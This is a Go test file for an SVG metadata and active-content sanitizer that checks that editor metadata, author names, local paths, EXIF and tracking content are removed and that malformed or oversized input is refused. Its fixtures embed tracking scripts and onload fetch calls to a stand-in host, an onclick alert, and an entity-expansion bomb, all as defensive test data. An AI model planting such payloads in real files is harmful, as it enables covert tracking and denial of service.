package image

import (
	"bytes"
	"encoding/base64"
	"encoding/binary"
	"encoding/xml"
	"image/jpeg"
	"io"
	"strings"
	"testing"

	"leak/relay/content/refusal"
)

// inkscapeSVG is shaped like an Inkscape 1.x save: sodipodi and inkscape
// namespaces naming the document and the export path, RDF metadata with
// the creator, a comment, an embedded JPEG with EXIF, a linked local image,
// a remote font and a script.
const inkscapeSVG = `<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!-- Created with Inkscape (http://www.inkscape.org/) by hvossberg -->
<?xml-stylesheet href="https://tracker.example/hollowmere.css" type="text/css"?>
<svg
   width="120mm" height="80mm" viewBox="0 0 120 80" version="1.1" id="svg5"
   inkscape:version="1.2.2 (b0a8486541, 2022-12-01)"
   sodipodi:docname="Hollowmere-plan.svg"
   inkscape:export-filename="/home/hvossberg/Exports/Hollowmere-plan.png"
   inkscape:export-xdpi="96"
   xml:base="file:///home/hvossberg/"
   onload="fetch('https://tracker.example/open')"
   xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"
   xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd"
   xmlns:xlink="http://www.w3.org/1999/xlink"
   xmlns="http://www.w3.org/2000/svg"
   xmlns:svg="http://www.w3.org/2000/svg"
   xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
   xmlns:cc="http://creativecommons.org/ns#"
   xmlns:dc="http://purl.org/dc/elements/1.1/">
  <title id="title1">Garden plan KEEP-SVG-title</title>
  <desc>Beds and paths</desc>
  <sodipodi:namedview id="namedview7" pagecolor="#ffffff" inkscape:window-width="1920" inkscape:current-layer="layer1"/>
  <defs id="defs2">
    <linearGradient id="g1"><stop offset="0" style="stop-color:#00aa00"/><stop offset="1" style="stop-color:#005500"/></linearGradient>
    <style>@import url("https://fonts.tracker.example/css?family=Bramblewick");
      @font-face { font-family: Hand; src: url(file:///home/hvossberg/.fonts/hand.ttf); }
      .bed { fill: url(#g1); stroke: #333 }</style>
  </defs>
  <metadata id="metadata5">
    <rdf:RDF><cc:Work rdf:about=""><dc:creator><cc:Agent><dc:title>Henrietta Vossberg</dc:title></cc:Agent></dc:creator></cc:Work></rdf:RDF>
  </metadata>
  <g inkscape:label="Layer 1" inkscape:groupmode="layer" id="layer1">
    <rect class="bed" x="10" y="10" width="40" height="20" sodipodi:nodetypes="cccc"/>
    <path d="M 60,10 L 110,70" style="stroke:#000;fill:none;marker-end:url(https://tracker.example/m.svg#arrow)" onclick="alert(1)"/>
    <use xlink:href="#layer1" x="5"/>
    <use href="https://tracker.example/sprite.svg#x"/>
    <image x="0" y="50" width="30" height="20" xlink:href="file:///home/hvossberg/Pictures/Hollowmere.jpg" sodipodi:absref="/home/hvossberg/Pictures/Hollowmere.jpg"/>
    <image x="40" y="50" width="30" height="20" preserveAspectRatio="none" xlink:href="data:image/jpeg;base64,EMBEDDED"/>
    <a href="https://tracker.example/hvossberg"><text x="5" y="75" xml:space="preserve">KEEP-SVG-text &amp; more</text></a>
    <set attributeName="href" to="https://tracker.example/late.png" begin="1s"/>
    <script><![CDATA[new Image().src = "https://tracker.example/p?u=hvossberg";]]></script>
    <foreignObject width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml">Pixelcam</div></foreignObject>
  </g>
</svg>
`

// illustratorSVG is shaped like an Illustrator "SVG 1.1" save: namespace
// names given as DOCTYPE entities, private data in i:pgf.
const illustratorSVG = `<?xml version="1.0" encoding="utf-8"?>
<!-- Generator: Adobe Illustrator 27.0.0, SVG Export Plug-In . SVG Version: 6.00 Build 0)  -->
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [
	<!ENTITY ns_extend "http://ns.adobe.com/Extensibility/1.0/">
	<!ENTITY ns_ai "http://ns.adobe.com/AdobeIllustrator/10.0/">
	<!ENTITY ns_graphs "http://ns.adobe.com/Graphs/1.0/">
	<!ENTITY ns_vars "http://ns.adobe.com/Variables/1.0/">
	<!ENTITY ns_imrep "http://ns.adobe.com/ImageReplacement/1.0/">
	<!ENTITY ns_sfw "http://ns.adobe.com/SaveForWeb/1.0/">
	<!ENTITY ns_custom "http://ns.adobe.com/GenericCustomNamespace/1.0/">
	<!ENTITY ns_adobe_xpath "http://ns.adobe.com/XPath/1.0/">
]>
<svg version="1.1" id="Layer_1" xmlns:x="&ns_extend;" xmlns:i="&ns_ai;" xmlns:graph="&ns_graphs;"
	 xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" x="0px" y="0px"
	 viewBox="0 0 100 100" style="enable-background:new 0 0 100 100;" xml:space="preserve">
<switch>
	<foreignObject requiredExtensions="&ns_ai;" x="0" y="0" width="1" height="1">
		<i:pgfRef  xlink:href="#adobe_illustrator_pgf"></i:pgfRef>
	</foreignObject>
	<g i:extraneous="self">
		<circle fill="#E30613" cx="50" cy="50" r="40"/>
		<text x="20" y="55">KEEP-SVG-ai</text>
	</g>
</switch>
<i:pgf  id="adobe_illustrator_pgf">
	<![CDATA[eJzsvWmTHMeRIPq9zOo/VH+Q2btrxtKaVGB:Henrietta Vossberg:SN-ZX-4471902]]>
</i:pgf>
</svg>
`

func svgClean(t *testing.T, in string) string {
	t.Helper()
	var out bytes.Buffer
	if err := SVG(&out, strings.NewReader(in)); err != nil {
		t.Fatal(err)
	}
	b := out.Bytes()
	var again bytes.Buffer
	if err := SVG(&again, bytes.NewReader(b)); err != nil || !bytes.Equal(again.Bytes(), b) {
		t.Errorf("cleaning the output again changed it (err %v):\n%s\n---\n%s", err, b, again.Bytes())
	}
	// The output is well-formed XML with an SVG root.
	d := xml.NewDecoder(bytes.NewReader(b))
	root := true
	for {
		tok, err := d.Token()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatalf("output is not well-formed: %v\n%s", err, b)
		}
		if se, ok := tok.(xml.StartElement); ok && root {
			root = false
			if se.Name.Space != nsSVG || se.Name.Local != "svg" {
				t.Errorf("root %v", se.Name)
			}
		}
	}
	return string(b)
}

// inkscapeWithPhoto is inkscapeSVG with a phone photo embedded.
func inkscapeWithPhoto(t testing.TB) string {
	photo := withMetadata(encodeJPEG(t, testPicture(30, 20)), cameraTIFF(binary.BigEndian, 6))
	return strings.Replace(inkscapeSVG, "EMBEDDED", base64.StdEncoding.EncodeToString(photo), 1)
}

func TestSVG(t *testing.T) {
	out := svgClean(t, inkscapeWithPhoto(t))
	checkNoSecrets(t, []byte(out))
	for _, gone := range []string{"tracker.example", "sodipodi", "inkscape", "<metadata", "<script",
		"foreignObject", "onload", "onclick", "<!--", "xml:base", "xml-stylesheet", "<set", "@import"} {
		if strings.Contains(out, gone) {
			t.Errorf("%q survived:\n%s", gone, out)
		}
	}
	for _, kept := range []string{`<?xml version="1.0" encoding="UTF-8"?>`, "KEEP-SVG-title", "<desc>Beds and paths</desc>",
		`xmlns="http://www.w3.org/2000/svg"`, `xmlns:xlink="http://www.w3.org/1999/xlink"`, `viewBox="0 0 120 80"`,
		`fill: url(#g1)`, `xlink:href="#layer1"`, "KEEP-SVG-text &amp; more", `xml:space="preserve"`,
		`<stop offset="0" style="stop-color:#00aa00"/>`, "marker-end:none", "data:image/jpeg;base64,"} {
		if !strings.Contains(out, kept) {
			t.Errorf("%q lost:\n%s", kept, out)
		}
	}
	// The embedded photo is cleaned like an attached one.
	i := strings.Index(out, "data:image/jpeg;base64,") + len("data:image/jpeg;base64,")
	raw, err := base64.StdEncoding.DecodeString(out[i : i+strings.IndexByte(out[i:], '"')])
	if err != nil {
		t.Fatal(err)
	}
	if _, err := jpeg.Decode(bytes.NewReader(raw)); err != nil {
		t.Errorf("embedded photo does not decode: %v", err)
	}
	if o := exifOrientationOf(t, raw); o != 6 {
		t.Errorf("embedded photo orientation %d", o)
	}

	out = svgClean(t, illustratorSVG)
	checkNoSecrets(t, []byte(out))
	for _, gone := range []string{"i:pgf", "adobe", "DOCTYPE", "ENTITY", "i:extraneous", "Generator"} {
		if strings.Contains(out, gone) {
			t.Errorf("%q survived:\n%s", gone, out)
		}
	}
	for _, kept := range []string{`<circle fill="#E30613" cx="50" cy="50" r="40"/>`, "KEEP-SVG-ai", "<switch>"} {
		if !strings.Contains(out, kept) {
			t.Errorf("%q lost:\n%s", kept, out)
		}
	}
}

// Sketch's own <desc> and Illustrator's data-name attributes go; the
// author's title and description stay.
func TestSVGEditorText(t *testing.T) {
	in := `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><title>KEEP-title</title>` +
		`<desc>Created with Sketch.</desc><g data-name="IMG_4032.JPG" id="layer"><desc>KEEP-desc</desc>` +
		`<rect width="5" height="5" data-name="Jane's draft"/></g></svg>`
	out := svgClean(t, in)
	for _, gone := range []string{"Sketch", "IMG_4032", "Jane", "data-name"} {
		if strings.Contains(out, gone) {
			t.Errorf("%q survived:\n%s", gone, out)
		}
	}
	for _, kept := range []string{"KEEP-title", "KEEP-desc", `id="layer"`, `<rect width="5" height="5"/>`} {
		if !strings.Contains(out, kept) {
			t.Errorf("%q lost:\n%s", kept, out)
		}
	}
}

func TestSVGRefusals(t *testing.T) {
	badPhoto := "data:image/png;base64," + base64.StdEncoding.EncodeToString([]byte("\x89PNG\r\n\x1a\nshort"))
	tests := []struct {
		name string
		in   string
		kind refusal.Kind
	}{
		{"empty", "", refusal.Malformed},
		{"not XML", "GIF89a", refusal.Malformed},
		{"HTML root", `<html xmlns="http://www.w3.org/1999/xhtml"><svg/></html>`, refusal.Malformed},
		{"root in another namespace", `<svg xmlns="http://example.org/not-svg"/>`, refusal.Malformed},
		{"unclosed", `<svg xmlns="http://www.w3.org/2000/svg"><g>`, refusal.Malformed},
		{"mismatched", `<svg xmlns="http://www.w3.org/2000/svg"><g></h></svg>`, refusal.Malformed},
		{"two roots", `<svg/><svg/>`, refusal.Malformed},
		{"undefined entity", `<svg>&author;</svg>`, refusal.Malformed},
		{"Latin-1", `<?xml version="1.0" encoding="ISO-8859-1"?><svg/>`, refusal.Malformed},
		{"malformed embedded image", `<svg><image href="` + badPhoto + `"/></svg>`, refusal.Malformed},
		{"too deep", strings.Repeat("<svg>", maxSVGDepth+1), refusal.Malformed},
		{"too large", "<svg>" + strings.Repeat(" ", MaxSVG) + "</svg>", refusal.TooLarge},
		{"entity expansion", `<!DOCTYPE svg [<!ENTITY a "` + strings.Repeat("x", 4096) + `">]><svg>` + strings.Repeat("&a;", 4096) + "</svg>", refusal.TooLarge},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := SVG(&bytes.Buffer{}, strings.NewReader(tt.in))
			r, ok := refusal.As(err)
			if !ok || r.Kind != tt.kind {
				t.Fatalf("err = %v, want a %v refusal", err, tt.kind)
			}
		})
	}
}
